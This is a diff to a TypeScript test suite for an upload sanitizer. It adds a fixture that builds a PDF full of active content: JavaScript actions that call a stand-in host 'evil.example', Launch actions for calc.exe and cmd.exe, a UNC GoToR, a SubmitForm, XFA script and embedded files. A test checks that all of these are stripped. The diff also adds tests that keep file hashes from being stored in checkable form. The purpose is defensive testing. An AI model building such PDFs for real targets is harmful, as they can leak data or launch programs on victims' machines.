@@ -1,10 +1,20 @@
 import { after, before, describe, it } from 'node:test';
 import assert from 'node:assert/strict';
 import { createHash, randomBytes, randomUUID } from 'node:crypto';
-import { crc32, deflateSync } from 'node:zlib';
+import { constants, crc32, deflateSync, inflateSync } from 'node:zlib';
 import fc from 'fast-check';
 import sharp from 'sharp';
-import { PDFDocument, PDFName } from 'pdf-lib';
+import { sql } from 'kysely';
+import {
+  decodePDFRawStream,
+  PDFArray,
+  PDFDict,
+  PDFDocument,
+  PDFName,
+  PDFRawStream,
+  PDFString,
+  type PDFObject,
+} from 'pdf-lib';
 import { createDataKey, type KeyRing } from '../../crypto/envelope.ts';
 import { createTestDatabase } from '../../test/database.ts';
 import type { Database, DatabaseHandle } from '../../db/database.ts';
@@ -109,6 +119,133 @@ async function pdfWithObjectStreamBomb(): Promise<Buffer> {
     object,
     Buffer.from(pdf.slice(xref), 'latin1'),
   ]);
+}
+
+const attackerHost = 'evil.example';
+const attachedPayload = 'attached payload 7f3a';
+
+/**
+ * A PDF with every kind of active content a viewer may run when it opens, or on a click or keystroke:
+ * each would call the attacker's host or open an embedded file. Also harmless navigation that should
+ * survive: a link and a bookmark to page 2, and a bookmark whose sibling has a URI action.
+ */
+async function pdfWithActiveContent(useObjectStreams: boolean): Promise<Buffer> {
+  const document = await PDFDocument.create();
+  const { context } = document;
+  const url = (path: string) => PDFString.of(`https://${attackerHost}/${path}`);
+  const script = (path: string) =>
+    context.obj({
+      Type: 'Action',
+      S: 'JavaScript',
+      JS: PDFString.of(`app.launchURL('https://${attackerHost}/${path}')`),
+    });
+  const page = document.addPage([300, 300]);
+  page.drawText('Verklaring', { x: 20, y: 250 });
+  const second = document.addPage([300, 300]);
+  second.drawText('Bijlage', { x: 20, y: 250 });
+  const toSecond = context.obj([second.ref, 'Fit']);
+
+  document.catalog.set(PDFName.of('OpenAction'), context.register(script('open')));
+  page.node.set(PDFName.of('AA'), context.obj({ O: script('page-open'), C: script('page-close') }));
+  document.addJavaScript('init', `app.launchURL('https://${attackerHost}/names')`);
+  await document.attach(Buffer.from(attachedPayload), 'payload.txt', { mimeType: 'text/plain' });
+
+  const annotation = (rect: number[], entries: Record<string, PDFObject | string | number[]>) =>
+    page.node.addAnnot(context.register(context.obj({ Type: 'Annot', Rect: rect, ...entries })));
+  annotation([0, 0, 50, 20], { Subtype: 'Link', A: context.obj({ S: 'URI', URI: url('link') }) });
+  annotation([0, 20, 50, 40], {
+    Subtype: 'Link',
+    A: context.obj({ S: 'Launch', F: PDFString.of('calc.exe'), Win: { F: PDFString.of('cmd.exe') } }),
+  });
+  annotation([0, 40, 50, 60], {
+    Subtype: 'Link',
+    A: context.obj({ S: 'GoToR', F: PDFString.of(`\\\\${attackerHost}\\share\\x.pdf`), D: [0, 'Fit'] }),
+  });
+  annotation([0, 60, 50, 80], { Subtype: 'Link', Dest: toSecond });
+  annotation([0, 80, 50, 100], {
+    Subtype: 'Link',
+    A: context.obj({ S: 'GoTo', D: toSecond, Next: [script('next')] }),
+  });
+  annotation([0, 100, 50, 120], {
+    Subtype: 'FileAttachment',
+    FS: context.obj({
+      Type: 'Filespec',
+      F: PDFString.of('second.txt'),
+      EF: { F: context.register(context.flateStream(attachedPayload, { Type: 'EmbeddedFile' })) },
+    }),
+  });
+
+  const form = document.getForm();
+  const field = form.createTextField('naam');
+  field.addToPage(page, { x: 100, y: 150, width: 150, height: 20 });
+  field.acroField.dict.set(PDFName.of('AA'), context.obj({ K: script('keystroke') }));
+  const button = form.createButton('verstuur');
+  button.addToPage('Verstuur', page, { x: 100, y: 100, width: 100, height: 20 });
+  button.acroField
+    .getWidgets()[0]
+    ?.dict.set(
+      PDFName.of('A'),
+      context.obj({ S: 'SubmitForm', F: { FS: 'URL', F: url('submit') }, Flags: 4 }),
+    );
+  const xfa = `<xdp:xdp><script>xfa.host.gotoURL('https://${attackerHost}/xfa')</script></xdp:xdp>`;
+  form.acroForm.dict.set(PDFName.of('XFA'), context.register(context.flateStream(xfa)));
+
+  const outlines = context.nextRef();
+  const [website, appendix] = [context.nextRef(), context.nextRef()];
+  context.assign(
+    website,
+    context.obj({
+      Title: PDFString.of('Website'),
+      Parent: outlines,
+      Next: appendix,
+      A: { S: 'URI', URI: url('bookmark') },
+    }),
+  );
+  context.assign(
+    appendix,
+    context.obj({ Title: PDFString.of('Bijlage'), Parent: outlines, Prev: website, Dest: toSecond }),
+  );
+  context.assign(outlines, context.obj({ Type: 'Outlines', First: website, Last: appendix, Count: 2 }));
+  document.catalog.set(PDFName.of('Outlines'), outlines);
+
+  // Otherwise pdf-lib would drop the XFA itself.
+  return Buffer.from(await document.save({ useObjectStreams, updateFieldAppearances: false }));
+}
+
+/** The file followed by the inflated content of each of its Flate streams, object streams included. */
+function withInflatedStreams(pdf: Buffer): Buffer {
+  const parts = [pdf];
+  const text = pdf.toString('latin1');
+  for (const match of text.matchAll(/(?<!end)stream\r?\n/g)) {
+    const start = match.index + match[0].length;
+    const end = text.indexOf('endstream', start);
+    if (end < 0) continue;
+    try {
+      parts.push(inflateSync(pdf.subarray(start, end), { finishFlush: constants.Z_SYNC_FLUSH }));
+    } catch {
+      // not Flate-encoded: its raw bytes are already part of the file
+    }
+  }
+  return Buffer.concat(parts);
+}
+
+/** What each page draws: its content streams, decoded. */
+async function pageContents(pdf: Buffer): Promise<string[]> {
+  const document = await PDFDocument.load(pdf, { updateMetadata: false });
+  return document.getPages().map((page) => {
+    const contents = page.node.Contents();
+    const streams =
+      contents instanceof PDFArray
+        ? contents.asArray().map((ref) => document.context.lookup(ref))
+        : [contents];
+    return streams
+      .map((stream) =>
+        stream instanceof PDFRawStream
+          ? Buffer.from(decodePDFRawStream(stream).decode()).toString('latin1')
+          : '',
+      )
+      .join('\n');
+  });
 }
 
 /** Every form in which a PDF writer may store the name: plain, UTF-16BE, and hex of either. */
@@ -253,6 +390,70 @@ describe('processUpload: PDF', () => {
     const file = await accept(compact);
     assertContainsNone(file.clean, encodingsOf(personName), 'clean PDF');
     assert.equal(await rejectionOf(await pdfWithObjectStreamBomb()), 'unreadable');
+  });
+
+  it('removes scripts, actions that open or fetch something, and embedded files', async () => {
+    const needles = [
+      '/JavaScript',
+      '/JS',
+      '/OpenAction',
+      '/AA',
+      '/EmbeddedFile',
+      '/Launch',
+      '/URI',
+      '/GoToR',
+      '/SubmitForm',
+      '/XFA',
+      '/FileAttachment',
+      attackerHost,
+      attachedPayload,
+    ];
+    for (const useObjectStreams of [false, true]) {
+      const original = await pdfWithActiveContent(useObjectStreams);
+      // The search below finds everything in the original, also inside compressed streams.
+      const searchable = withInflatedStreams(original);
+      for (const needle of needles) assert.ok(searchable.includes(needle), `original has ${needle}`);
+      if (useObjectStreams) {
+        assert.ok(
+          original.includes('/ObjStm') && !original.includes('/OpenAction'),
+          'dictionaries compressed',
+        );
+      }
+
+      const { clean } = await accept(original, 'verklaring.pdf');
+      // Without object streams every dictionary is in the file as plain text; streams are inflated.
+      assert.ok(!clean.includes('/ObjStm'));
+      assertContainsNone(
+        withInflatedStreams(clean),
+        needles,
+        `clean PDF (object streams: ${useObjectStreams})`,
+      );
+
+      assert.deepEqual(await pageContents(clean), await pageContents(original), 'pages draw the same');
+      const reloaded = await PDFDocument.load(clean, { updateMetadata: false });
+      assert.equal(reloaded.getPageCount(), 2);
+      assert.deepEqual(
+        reloaded
+          .getForm()
+          .getFields()
+          .map((f) => f.getName()),
+        ['naam', 'verstuur'],
+      );
+      // Navigation within the file stays: the link with a destination and the one with a GoTo action.
+      const annotations = reloaded.getPage(0).node.Annots();
+      const subtypes = (annotations?.asArray() ?? []).map((ref) =>
+        reloaded.context.lookup(ref, PDFDict).get(PDFName.of('Subtype'))?.toString(),
+      );
+      assert.deepEqual(subtypes.sort(), ['/Link', '/Link', '/Widget', '/Widget']);
+      const outlines = reloaded.catalog.lookup(PDFName.of('Outlines'), PDFDict);
+      const first = outlines.lookup(PDFName.of('First'), PDFDict);
+      assert.equal(first.has(PDFName.of('A')), false);
+      assert.equal(
+        first.lookup(PDFName.of('Next'), PDFDict).has(PDFName.of('Dest')),
+        true,
+        'bookmarks stay linked',
+      );
+    }
   });
 
   it('gives up on a PDF that takes too long, and runs several at once', async () => {
@@ -447,46 +648,34 @@ describe('attachment storage', () => {
 
     const listed = await listAttachments(db, reportId);
     assert.deepEqual(
-      listed.map(({ id, messageId, mediaType, sizeBytes, sha256 }) => ({
-        id,
-        messageId,
-        mediaType,
-        sizeBytes,
-        sha256,
-      })),
+      listed.map(({ id, messageId, mediaType, sizeBytes }) => ({ id, messageId, mediaType, sizeBytes })),
       [
-        {
-          id: ids[0],
-          messageId: null,
-          mediaType: 'image/jpeg',
-          sizeBytes: jpeg.sizeBytes,
-          sha256: jpeg.sha256,
-        },
-        {
-          id: ids[1],
-          messageId: null,
-          mediaType: 'application/pdf',
-          sizeBytes: pdf.sizeBytes,
-          sha256: pdf.sha256,
-        },
+        { id: ids[0], messageId: null, mediaType: 'image/jpeg', sizeBytes: jpeg.sizeBytes },
+        { id: ids[1], messageId: null, mediaType: 'application/pdf', sizeBytes: pdf.sizeBytes },
       ],
     );
     assert.ok(listed.every((item) => item.createdAt instanceof Date));
+    // Listing decrypts nothing, so it cannot give the (encrypted) hash either.
     assert.deepEqual(Object.keys(listed[0] ?? {}).sort(), [
       'createdAt',
       'id',
       'mediaType',
       'messageId',
-      'sha256',
       'sizeBytes',
     ]);
 
     const clean = await readAttachment(db, keyRing, ids[0] ?? '', 'clean');
-    assert.deepEqual(clean, { fileName: jpeg.fileName, mediaType: 'image/jpeg', data: jpeg.clean });
+    assert.deepEqual(clean, {
+      fileName: jpeg.fileName,
+      mediaType: 'image/jpeg',
+      sha256: jpeg.sha256, // of the original, also when reading the clean copy
+      data: jpeg.clean,
+    });
     const original = await readAttachment(db, keyRing, ids[1] ?? '', 'original');
     assert.deepEqual(original, {
       fileName: 'loonstrook.pdf',
       mediaType: 'application/pdf',
+      sha256: pdf.sha256,
       data: pdf.original,
     });
   });
@@ -499,6 +688,28 @@ describe('attachment storage', () => {
     assert.ok(!row.file_name.includes(personName));
     assert.ok(!row.original.includes(jpeg.original.subarray(0, 64)) && !row.original.includes('SpyCam'));
     assert.ok(!row.clean.includes(jpeg.clean.subarray(0, 64)));
+  });
+
+  it('does not store the hash of the original in a form that can be checked against a copy', async () => {
+    const { dataKey, reportId } = await createReport();
+    const photo = await jpegWithMetadata();
+    const hex = createHash('sha256').update(photo).digest('hex');
+    const digest = Buffer.from(hex, 'hex');
+    const [id = ''] = await storeAttachments(db, dataKey, reportId, null, [await accept(photo)]);
+
+    const row = await db.selectFrom('attachment').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
+    for (const [column, value] of Object.entries(row)) {
+      const bytes = Buffer.isBuffer(value) ? value : Buffer.from(String(value));
+      for (const form of [hex, hex.toUpperCase(), digest, digest.toString('base64')]) {
+        assert.ok(!bytes.includes(form), `${column} holds the digest`);
+      }
+    }
+    // The database's own rendering of the row (bytea as hex) would also show a raw binary digest.
+    const { rows } = await sql<{
+      text: string;
+    }>`select a::text as text from attachment a where id = ${id}`.execute(db);
+    assert.equal(rows.length, 1);
+    assert.ok(!rows[0]?.text.toLowerCase().includes(hex));
   });
 
   it('fails to read with the wrong key ring or with swapped ciphertexts', async () => {
@@ -519,6 +730,18 @@ describe('attachment storage', () => {
       .executeTakeFirstOrThrow();
     await db.updateTable('attachment').set({ clean: row.original }).where('id', '=', id).execute();
     await assert.rejects(readAttachment(db, keyRing, id, 'clean'));
+
+    const [other = ''] = await storeAttachments(db, dataKey, reportId, null, [
+      await accept(await pdfWithMetadata()),
+    ]);
+    const { sha256 } = await db
+      .selectFrom('attachment')
+      .select('sha256')
+      .where('id', '=', other)
+      .executeTakeFirstOrThrow();
+    assert.ok(await readAttachment(db, keyRing, id, 'original'));
+    await db.updateTable('attachment').set({ sha256 }).where('id', '=', id).execute();
+    await assert.rejects(readAttachment(db, keyRing, id, 'original'));
   });
 
   it('links files to a message of the same report only, under that report’s key', async () => {
